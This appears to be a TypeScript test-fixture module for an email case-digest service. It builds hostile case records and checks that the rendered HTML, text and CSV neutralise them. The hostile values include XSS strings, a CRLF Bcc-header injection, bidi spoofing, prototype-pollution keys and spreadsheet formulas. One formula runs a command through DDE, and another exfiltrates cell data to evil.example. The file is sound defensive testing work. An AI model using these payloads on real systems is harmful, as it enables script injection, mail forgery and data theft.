/**
 * Hostile case data for the end-to-end tests, an oracle over it written from SPEC §6 alone, and
 * the checks the email must pass (HTML safety, CSV neutralisation, phone masking).
 */
import { parse } from 'csv-parse/sync';
import type { CaseRecord } from '../../functions/case-digest/aicc/schemas.js';

/** Values from the API that try to break the email: markup, header tricks, spoofing, size. */
export const HOSTILE = {
  img: '<img src=x onerror=alert(1)>',
  script: '"><script>alert(1)</script>',
  svg: "<svg/onload=alert('x')>",
  link: '<a href="javascript:alert(1)">click</a>',
  crlf: 'Line one\r\nBcc: attacker@example.net\r\n\r\n<b>injected body</b>',
  bidi: 'invoice\u202Egnp.exe \u2066isolated\u2069 \u202Dforced\u202C',
  emoji: '🔥🚨 Ünïcödé ẞ 👩‍👩‍👧‍👦 e\u0301\u0301\u0301 Z\u0335\u0321\u0322\u031B\u0317 漢字 العربية',
  formulaCmd: "=cmd|' /C calc'!A0",
  formulaPlus: '+1+1',
  formulaAt: '@SUM(1)',
  formulaTab: '\t=1+1',
  formulaMinus: '-2+3',
  formulaCr: '\r=1+1',
  fullwidthEq: '＝1+1',
  controls: 'nul\u0000bell\u0007esc\u001b[31mred\u2028sep',
  quotes: `'"\`=&<>`.repeat(40),
  long: 'A'.repeat(10_000),
  longMarkup: '<&">'.repeat(2_500),
  longEmoji: '😀'.repeat(5_000),
  longCombining: `a${'\u0301'.repeat(9_999)}`,
  protoKey: '__proto__',
  ctorKey: 'constructor',
} as const;

export const HOSTILE_VALUES: string[] = Object.values(HOSTILE);

/** The exact escaped forms Handlebars must produce for the two classic payloads. */
export const ESCAPED_IMG = '&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;';
export const ESCAPED_SCRIPT = '&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;';

/** Case ids that are formulas or markup (overdue cases of the window). */
export const HOSTILE_IDS = [
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '+cmd{caseNo}',
  '@SUM(A1)',
  '-1',
  '<b>id</b>',
];

/** Values whose CSV cell must come out prefixed with `'`. */
export const FORMULA_VALUES = [
  HOSTILE.formulaCmd,
  HOSTILE.formulaPlus,
  HOSTILE.formulaAt,
  HOSTILE.formulaTab,
  HOSTILE.formulaMinus,
  HOSTILE.formulaCr,
];

export const MALFORMED_DUE_DATES: (string | null | undefined)[] = [
  '2026-13-45 99:99:99',
  'yesterday',
  '',
  '   ',
  '2026-02-30 10:00:00',
  '2026-11-26 24:00:00',
  '2026-11-26T08:00:00',
  '2026-11-26T08:00:00Z',
  '26/11/2026 08:00',
  '2026-11-26 8:00:00',
  '<script>alert(1)</script>',
  null,
  undefined,
];

/** Phone numbers in several spellings; the digits but the last 4 must never be shown. */
export function phoneFor(i: number): string {
  const seven = String(3_100_000 + ((i * 7_919) % 6_800_000)).padStart(7, '0');
  const spellings = [
    `+971 58 ${seven.slice(0, 3)} ${seven.slice(3)}`,
    `+971-58-${seven}`,
    `00971 58 ${seven}`,
    `(058) ${seven.slice(0, 3)}-${seven.slice(3)}`,
    `+971 58 ${seven} ext. 12`,
  ];
  return spellings[i % spellings.length] as string;
}

/** The digit run that must not appear: every digit of the number but its last 4. */
export function hiddenDigits(phone: string): string {
  const digits = phone.replace(/\D/g, '');
  return digits.slice(0, -4);
}

// ---------------------------------------------------------------------------------------------

export interface HostileSet {
  cases: CaseRecord[];
  /** Ids of cases whose dueDate is malformed or absent. */
  malformedDueIds: string[];
  /** Ids of the cases that carry the hostile strings and are overdue (shown first in the table). */
  showcaseIds: string[];
  /** The hostile strings again, on open Critical cases due 1 s after `asOfLocal` (first in the due-soon table). */
  dueSoonIds: string[];
  /** And once more, due at `warnDueLocal` (+ i seconds): warned by an alert whose warning window holds it. */
  warnIds: string[];
}

const pad = (n: number, w = 2) => String(n).padStart(w, '0');
const at = (day: string, secondOfDay: number) =>
  `${day} ${pad(Math.floor(secondOfDay / 3600))}:${pad(Math.floor((secondOfDay % 3600) / 60))}:${pad(secondOfDay % 60)}`;

/** Builds a case with only the given fields set (a documented field may be missing). */
function record(fields: Record<string, unknown>): CaseRecord {
  const c: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(fields)) if (v !== undefined) c[k] = v;
  return c as CaseRecord;
}

/**
 * The hostile data set, in AICC local time (the tests use one zone for the API and the report):
 * - showcase: one open Critical case per hostile string, overdue, created on `day`;
 * - unknown: 400 cases with unknown enums (over 300 distinct priorities), hostile and blank
 *   values, and dueDates valid, future, on the boundary, malformed or absent;
 * - closed: overdue by date but closed (state, closedDate, isCanced);
 * - previous: created the day before (the trend), some overdue;
 * - older: in the lookback but before the window; one outside the lookback; one after the window;
 * - due soon: the showcase again, open and Critical, due 1 s after `asOfLocal` (the digest's
 *   due-soon table) and again due at `warnDueLocal` (an alert's pre-breach warning).
 */
export function buildHostileCases(opts: {
  day: string;
  previousDay: string;
  lookbackDay: string;
  beforeLookbackDay: string;
  asOfLocal: string;
  afterWindowLocal: string;
  /** A local time on the hour, within a day after `asOfLocal`. */
  warnDueLocal: string;
}): HostileSet {
  const cases: CaseRecord[] = [];
  const malformedDueIds: string[] = [];
  const showcaseIds: string[] = [];
  const dueSoonIds: string[] = [];
  const warnIds: string[] = [];
  const H = HOSTILE_VALUES;
  const pick = (i: number) => H[i % H.length] as string;

  // Showcase: hostile strings in every displayed field; Critical so they lead the overdue table.
  H.forEach((value, i) => {
    const id = `showcase-${pad(i)}`;
    showcaseIds.push(id);
    cases.push(
      record({
        id,
        caseNo: i % 3 === 0 ? value : `0000000003${pad(i, 4)}`,
        title: value,
        typeName: pick(i + 5),
        type: pick(i + 7),
        ownerId: pick(i + 3),
        priority: 'Critical',
        origin: pick(i + 1),
        state: i % 4 === 0 ? 'Processing' : pick(i + 2),
        contactPhone: phoneFor(i),
        contactId: pick(i + 4),
        creatorId: pick(i + 6),
        createdDate: at(opts.day, 3_600 + i * 60),
        dueDate: at(opts.day, 8 * 3_600 + i),
        closedDate: i % 5 === 0 ? null : undefined,
        isCanced: i % 6 === 0 ? false : undefined,
        'type.__objectType': pick(i + 8),
      }),
    );
  });

  // The same strings on cases not yet due: the due-soon sections of the digest and the alert.
  for (const [group, ids, due, phoneBase] of [
    ['due-soon', dueSoonIds, () => bumpSecond(opts.asOfLocal), 200],
    ['warn', warnIds, (i: number) => `${opts.warnDueLocal.slice(0, 17)}${pad(i)}`, 300],
  ] as const) {
    H.forEach((value, i) => {
      const id = `${group}-${pad(i)}`;
      ids.push(id);
      cases.push(
        record({
          id,
          caseNo: i % 3 === 1 ? value : `0000000004${pad(phoneBase + i, 4)}`,
          title: value,
          type: pick(i + 7),
          ownerId: pick(i + 3),
          priority: 'Critical',
          origin: pick(i + 1),
          state: i % 4 === 1 ? 'Pending' : pick(i + 2),
          contactPhone: phoneFor(phoneBase + i),
          createdDate: at(opts.day, 7_000 + i * 60),
          dueDate: due(i),
        }),
      );
    });
  }

  // Identifiers are data too: they reach the CSV, the deep links and the result.
  for (const [i, id] of HOSTILE_IDS.entries()) {
    cases.push(
      record({
        id,
        caseNo: id,
        title: `hostile id ${i}`,
        priority: 'High',
        state: 'Pending',
        createdDate: at(opts.day, 7_200 + i),
        dueDate: at(opts.day, 9_000 + i),
      }),
    );
  }

  // Unknown enums and broken dates.
  const dueChoices = (i: number): { due: string | null | undefined; malformed: boolean } => {
    switch (i % 6) {
      case 0:
        return { due: MALFORMED_DUE_DATES[i % MALFORMED_DUE_DATES.length], malformed: true };
      case 1:
        return { due: at('2026-11-20', i * 37), malformed: false };
      case 2:
        return { due: '2026-12-01 10:00:00', malformed: false };
      case 3:
        return { due: i % 12 === 3 ? opts.asOfLocal : at(opts.day, 20 * 3_600 + i), malformed: false };
      case 4:
        return {
          due: i % 12 === 4 ? bumpSecond(opts.asOfLocal) : MALFORMED_DUE_DATES[(i >> 1) % 13],
          malformed: i % 12 !== 4,
        };
      default:
        return { due: at('2026-11-25', 1_000 + i), malformed: false };
    }
  };
  for (let i = 0; i < 400; i++) {
    const id = `unknown-${pad(i, 3)}`;
    const { due, malformed } = dueChoices(i);
    if (malformed) malformedDueIds.push(id);
    const priority =
      i % 10 === 0
        ? pick(i)
        : i % 10 === 1
          ? ([
              'Urgent!!',
              '???',
              '',
              '   ',
              null,
              undefined,
              '  Critical  ',
              'critical',
              'CRITICAL',
              'hasOwnProperty',
            ][Math.floor(i / 10) % 10] as string | null | undefined)
          : `P${i} <i>${i}</i>`;
    cases.push(
      record({
        id,
        caseNo: `UNK-${i}`,
        title: i % 7 === 0 ? pick(i) : `Ordinary title ${i}`,
        typeName: pick(i + 1),
        ownerId: i % 9 === 0 ? pick(i + 2) : `owner-${i % 13}`,
        priority,
        origin: [null, undefined, '', 'Fax??', pick(i + 3), 'Email', ' webchat '][i % 7],
        state: ['???', '', null, undefined, pick(i + 4), 'Processing', 'Pending', ' pending '][i % 8],
        contactPhone: i % 4 === 0 ? phoneFor(100 + i) : i % 4 === 1 ? pick(i) : null,
        createdDate: at(opts.day, (i * 263) % 86_400),
        dueDate: due,
      }),
    );
  }

  // A case with an own "__proto__" key whose contents would make it closed if it leaked.
  cases.push(
    JSON.parse(
      JSON.stringify({
        id: 'proto-carrier',
        caseNo: 'PROTO-1',
        title: 'carries __proto__',
        priority: 'High',
        state: 'Processing',
        createdDate: at(opts.day, 43_200),
        dueDate: at(opts.day, 43_300),
      }).replace(
        '{',
        '{"__proto__":{"closedDate":"2026-01-01 00:00:00","state":"Completed","isCanced":true},',
      ),
    ) as CaseRecord,
  );

  // Closed in every way: overdue by date, never overdue.
  const closedVariants: Record<string, unknown>[] = [
    { state: 'Completed' },
    { state: 'COMPLETED' },
    { state: 'closed' },
    { state: 'Cancelled' },
    { state: 'canceled' },
    { state: '???', closedDate: at(opts.day, 50_000) },
    { state: HOSTILE.script, isCanced: true },
    { state: 'Processing', isCanced: 'true' },
  ];
  closedVariants.forEach((v, i) => {
    cases.push(
      record({
        id: `closed-${i}`,
        caseNo: `CLS-${i}`,
        title: pick(i),
        priority: i % 2 ? 'Critical' : pick(i + 1),
        createdDate: at(opts.day, 30_000 + i),
        dueDate: at(opts.day, 31_000 + i),
        contactPhone: phoneFor(500 + i),
        ...v,
      }),
    );
  });

  // The day before: the trend, and overdue cases from the lookback.
  for (let i = 0; i < 40; i++) {
    cases.push(
      record({
        id: `previous-${pad(i)}`,
        caseNo: `PRV-${i}`,
        title: pick(i + 9),
        priority: i % 3 === 0 ? 'Critical' : pick(i),
        origin: pick(i + 2),
        state: i % 5 === 0 ? 'Completed' : pick(i + 3),
        contactPhone: phoneFor(600 + i),
        createdDate: at(opts.previousDay, i * 2_000),
        dueDate:
          i % 4 === 0
            ? MALFORMED_DUE_DATES[i % MALFORMED_DUE_DATES.length]
            : at(opts.previousDay, 60_000 + i),
      }),
    );
    if (i % 4 === 0) malformedDueIds.push(`previous-${pad(i)}`);
  }

  // Older lookback cases, one before the lookback, one created after the window (today).
  for (let i = 0; i < 6; i++) {
    cases.push(
      record({
        id: `older-${i}`,
        caseNo: `OLD-${i}`,
        title: pick(i + 11),
        priority: 'Critical',
        state: 'Processing',
        createdDate: at(opts.lookbackDay, 1_000 * i),
        dueDate: at(opts.lookbackDay, 80_000 + i),
      }),
    );
  }
  cases.push(
    record({
      id: 'before-lookback',
      caseNo: 'OLD-X',
      title: HOSTILE.img,
      priority: 'Critical',
      state: 'Processing',
      createdDate: at(opts.beforeLookbackDay, 1_000),
      dueDate: at(opts.beforeLookbackDay, 2_000),
    }),
  );
  cases.push(
    record({
      id: 'after-window',
      caseNo: 'NEW-1',
      title: HOSTILE.script,
      priority: 'Critical',
      state: 'Processing',
      createdDate: opts.afterWindowLocal,
      dueDate: opts.afterWindowLocal,
    }),
  );
  return { cases, malformedDueIds, showcaseIds, dueSoonIds, warnIds };
}

function bumpSecond(local: string): string {
  const s = Number(local.slice(17, 19)) + 1;
  if (s > 59) throw new Error('asOf must not end in :59');
  return `${local.slice(0, 17)}${pad(s)}`;
}

// ---------------------------------------------------------------------------------------------
// The oracle: SPEC §6 on the raw records, with plain string comparisons in local time.

const STRICT_LOCAL = /^(\d{4})-(\d{2})-(\d{2}) (\d{2}):(\d{2}):(\d{2})$/;

/** A `YYYY-MM-DD HH:mm:ss` that names a real second of the calendar. */
export function isRealLocalDateTime(v: unknown): v is string {
  if (typeof v !== 'string') return false;
  const m = STRICT_LOCAL.exec(v.trim());
  if (!m) return false;
  const [y, mo, d, h, mi, s] = m.slice(1).map(Number) as [number, number, number, number, number, number];
  const leap = (y % 4 === 0 && y % 100 !== 0) || y % 400 === 0;
  const dim = [31, leap ? 29 : 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31][mo - 1] ?? 0;
  return mo >= 1 && mo <= 12 && d >= 1 && d <= dim && h <= 23 && mi <= 59 && s <= 59;
}

const CLOSED = ['completed', 'closed', 'cancelled', 'canceled'];
const own = (c: CaseRecord, k: string): unknown =>
  Object.hasOwn(c, k) ? (c as Record<string, unknown>)[k] : undefined;

export const bucket = (v: unknown): string =>
  v === null || v === undefined || String(v).trim() === '' ? 'Unspecified' : String(v).trim();

export function isOpen(c: CaseRecord): boolean {
  const closedDate = own(c, 'closedDate');
  const state = own(c, 'state');
  const canceled = own(c, 'isCanced');
  return (
    (closedDate === null || closedDate === undefined || String(closedDate).trim() === '') &&
    !CLOSED.includes(
      String(state ?? '')
        .trim()
        .toLowerCase(),
    ) &&
    canceled !== true &&
    canceled !== 'true'
  );
}

export const createdIn = (c: CaseRecord, from: string, to: string): boolean => {
  const created = own(c, 'createdDate');
  return typeof created === 'string' && created >= from && created <= to;
};

/** Counts per bucket, in a Map (keys like `__proto__` stay data). */
export function countBy(
  cases: readonly CaseRecord[],
  field: 'priority' | 'origin' | 'state',
): Map<string, number> {
  const out = new Map<string, number>();
  for (const c of cases) {
    const k = bucket(own(c, field));
    out.set(k, (out.get(k) ?? 0) + 1);
  }
  return out;
}

/** Open cases created in [from, to] whose real dueDate is ≤ `atLocal`. */
export function overdueIds(
  cases: readonly CaseRecord[],
  from: string,
  to: string,
  atLocal: string,
): string[] {
  return cases
    .filter((c) => createdIn(c, from, to) && isOpen(c))
    .filter((c) => {
      const due = own(c, 'dueDate');
      return isRealLocalDateTime(due) && due.trim() <= atLocal;
    })
    .map((c) => String(c.id))
    .sort();
}

/** `YYYY-MM-DD HH:mm:ss` → seconds on a plain wall-clock axis (the zone has no DST). */
export function wallSeconds(local: string): number {
  const m = STRICT_LOCAL.exec(local.trim());
  if (!m) throw new Error(`not a local datetime: ${local}`);
  const [y, mo, d, h, mi, s] = m.slice(1).map(Number) as [number, number, number, number, number, number];
  return Date.UTC(y, mo - 1, d, h, mi, s) / 1000;
}

/** SPEC §6 "Alerted", for exact-"Critical" cases as the API's priority filter returns them. */
export function alertedIds(
  cases: readonly CaseRecord[],
  opts: { lookbackFrom: string; atLocal: string; intervalMinutes: number; repeatHours: number },
): string[] {
  const atS = wallSeconds(opts.atLocal);
  const lowS = atS - opts.intervalMinutes * 60;
  return cases
    .filter(
      (c) => own(c, 'priority') === 'Critical' && createdIn(c, opts.lookbackFrom, opts.atLocal) && isOpen(c),
    )
    .filter((c) => {
      const due = own(c, 'dueDate');
      if (!isRealLocalDateTime(due)) return false;
      const dueS = wallSeconds(due);
      for (let k = 0; ; k++) {
        const t = dueS + k * opts.repeatHours * 3_600;
        if (t > atS) return false;
        if (t > lowS) return true;
        if (opts.repeatHours === 0) return false;
      }
    })
    .map((c) => String(c.id))
    .sort();
}

/** Open cases created in [lookbackFrom, asOfLocal] with a real dueDate in (asOfLocal, horizonLocal]: SPEC §6 "Due soon". */
export function dueSoonIds(
  cases: readonly CaseRecord[],
  opts: { lookbackFrom: string; asOfLocal: string; horizonLocal: string },
): string[] {
  return cases
    .filter((c) => createdIn(c, opts.lookbackFrom, opts.asOfLocal) && isOpen(c))
    .filter((c) => {
      const due = own(c, 'dueDate');
      return isRealLocalDateTime(due) && due.trim() > opts.asOfLocal && due.trim() <= opts.horizonLocal;
    })
    .map((c) => String(c.id))
    .sort();
}

/**
 * SPEC §6 "Warned", for exact-"Critical" cases: open, created within the lookback, due after
 * `atLocal`, and `due − warnHours` in (atLocal − interval, atLocal].
 */
export function warnedIds(
  cases: readonly CaseRecord[],
  opts: { lookbackFrom: string; atLocal: string; intervalMinutes: number; warnHours: number },
): string[] {
  const atS = wallSeconds(opts.atLocal);
  return cases
    .filter(
      (c) => own(c, 'priority') === 'Critical' && createdIn(c, opts.lookbackFrom, opts.atLocal) && isOpen(c),
    )
    .filter((c) => {
      const due = own(c, 'dueDate');
      if (!isRealLocalDateTime(due) || opts.warnHours <= 0) return false;
      const dueS = wallSeconds(due);
      const warnS = dueS - opts.warnHours * 3_600;
      return dueS > atS && warnS <= atS && warnS > atS - opts.intervalMinutes * 60;
    })
    .map((c) => String(c.id))
    .sort();
}

const cancelled = (c: CaseRecord) => {
  const v = own(c, 'isCanced');
  return v === true || String(v).toLowerCase() === 'true';
};

/** SPEC §6 due-date attainment of `cases` at `asOfLocal`; cancelled cases and absent or malformed due dates left out. */
export function attainmentOf(cases: readonly CaseRecord[], asOfLocal: string) {
  const out = { met: 0, missed: 0, pending: 0, unknown: 0 };
  for (const c of cases) {
    const due = own(c, 'dueDate');
    if (cancelled(c) || !isRealLocalDateTime(due)) continue;
    const closed = own(c, 'closedDate');
    if (isRealLocalDateTime(closed)) out[closed.trim() <= due.trim() ? 'met' : 'missed']++;
    else if (isOpen(c)) out[due.trim() <= asOfLocal ? 'missed' : 'pending']++;
    else out.unknown++;
  }
  return out;
}

/** Overdue cases by how long overdue at `asOfLocal`: < 24 h, < 72 h, < 168 h, the rest. */
export function ageBucketsOf(overdue: readonly CaseRecord[], asOfLocal: string): Record<string, number> {
  const out: Record<string, number> = { '<1d': 0, '1-3d': 0, '3-7d': 0, '>7d': 0 };
  for (const c of overdue) {
    const hours = (wallSeconds(asOfLocal) - wallSeconds(String(own(c, 'dueDate')))) / 3_600;
    const key = hours < 24 ? '<1d' : hours < 72 ? '1-3d' : hours < 168 ? '3-7d' : '>7d';
    out[key] = (out[key] ?? 0) + 1;
  }
  return out;
}

/** Overdue cases per owner (trimmed, blank → Unspecified), in a Map (an owner `__proto__` stays data). */
export function ownersOf(overdue: readonly CaseRecord[]): Map<string, number> {
  const out = new Map<string, number>();
  for (const c of overdue) {
    const k = bucket(own(c, 'ownerId'));
    out.set(k, (out.get(k) ?? 0) + 1);
  }
  return out;
}

/** Cases whose dueDate is there (not blank) but is not a real `YYYY-MM-DD HH:mm:ss`. */
export function malformedDueCount(cases: readonly CaseRecord[]): number {
  return new Set(
    cases
      .filter((c) => {
        const due = own(c, 'dueDate');
        return bucket(due) !== 'Unspecified' && !isRealLocalDateTime(due);
      })
      .map((c) => String(c.id)),
  ).size;
}

// ---------------------------------------------------------------------------------------------
// Checks on what was rendered.

/**
 * What a reader sees of an HTML part, as text to search: zero-width spaces (inserted to let long
 * runs wrap) removed, no-break spaces (`&nbsp;`, U+00A0) read as spaces.
 */
export function visible(html: string): string {
  return html.replace(/[\u200B\u2060\uFEFF]/g, '').replace(/&nbsp;|\u00A0/g, ' ');
}

/** Tags the templates use; anything else in the HTML came from data. */
const ALLOWED_TAGS = new Set([
  'a',
  'body',
  'br',
  'div',
  'em',
  'h1',
  'h2',
  'head',
  'html',
  'li',
  'meta',
  'p',
  'span',
  'strong',
  'table',
  'td',
  'th',
  'title',
  'tr',
  'ul',
]);

/** Problems with an HTML part: size, foreign tags, event handlers, script URLs, raw payloads, control and bidi characters. */
export function htmlProblems(html: string): string[] {
  const problems: string[] = [];
  const bytes = Buffer.byteLength(html, 'utf8');
  if (bytes >= 100_000) problems.push(`HTML is ${bytes} bytes (limit 100,000)`);
  for (const raw of [/<script/i, /<img/i, /<svg/i, /<iframe/i, /onerror\s*=/i, /onload\s*=/i])
    if (raw.test(visible(html))) problems.push(`raw ${raw.source} in HTML`);
  // Comments and the doctype aside, every tag must be one of the templates' own.
  const markup = html.replace(/<!--[\s\S]*?-->/g, '').replace(/<!doctype[^>]*>/i, '');
  for (const m of markup.matchAll(/<\/?([A-Za-z][A-Za-z0-9-]*)([^>]*)>/g)) {
    const [tag, name = '', attrs = ''] = m;
    if (!ALLOWED_TAGS.has(name.toLowerCase())) problems.push(`foreign tag ${tag.slice(0, 80)}`);
    if (/\son[a-z]+\s*=/i.test(attrs)) problems.push(`event handler in ${tag.slice(0, 80)}`);
    for (const href of attrs.matchAll(/\shref\s*=\s*"([^"]*)"/gi))
      if (!/^https?:\/\//i.test(href[1] ?? '')) problems.push(`non-http link ${href[1]?.slice(0, 80)}`);
  }
  if (/[<]/.test(markup.replace(/<\/?[A-Za-z][A-Za-z0-9-]*[^>]*>/g, '')))
    problems.push('a "<" outside any tag (unescaped data)');
  const control = firstControl(html);
  if (control) problems.push(`control character ${control} in HTML`);
  const bidi = /[\u202A-\u202E\u2066-\u2069]/.exec(html);
  if (bidi) problems.push(`bidi control U+${bidi[0].codePointAt(0)?.toString(16).toUpperCase()} in HTML`);
  return problems;
}

/** The first C0 control (but tab, LF, CR) or DEL in `text`, as `U+001B`; null when there is none. */
function firstControl(text: string): string | null {
  for (const ch of text) {
    const cp = ch.codePointAt(0) ?? 0;
    if ((cp < 0x20 && cp !== 0x09 && cp !== 0x0a && cp !== 0x0d) || cp === 0x7f)
      return `U+${cp.toString(16).toUpperCase().padStart(4, '0')}`;
  }
  return null;
}

/** Problems with a plain-text part: lines forged by CR/LF in data, control characters, bidi controls. */
export function textProblems(text: string): string[] {
  const problems: string[] = [];
  if (/^\s*Bcc:/im.test(text)) problems.push('a line starting with "Bcc:" (CR/LF from data)');
  const control = firstControl(text);
  if (control) problems.push(`control character ${control} in text`);
  if (/[\u202A-\u202E\u2066-\u2069]/.test(text)) problems.push('bidi control in text');
  return problems;
}

/** RFC 4180 CSV into rows of cells (csv-parse: quoted fields, CRLF or LF records, BOM dropped). */
export const parseCsv = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true });

/** Cells a spreadsheet would read as a formula: starting with = + - @ tab or CR. */
export const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Where a phone's hidden digits show up in `text` (as a digit run, with or without separators). */
export function phoneLeaks(shown: string, phones: readonly string[]): string[] {
  const text = visible(shown);
  const digitsOnly = text.replace(/[^\d]/g, '');
  const leaks: string[] = [];
  for (const phone of phones) {
    const hidden = hiddenDigits(phone);
    if (hidden.length < 6) continue;
    if (text.includes(phone)) leaks.push(`raw phone ${phone}`);
    else if (text.includes(hidden)) leaks.push(`digits ${hidden} of ${phone}`);
    else if (digitsOnly.includes(hidden) && new RegExp(hidden.split('').join('[\\s().+-]*')).test(text))
      leaks.push(`spaced digits of ${phone}`);
  }
  return leaks;
}
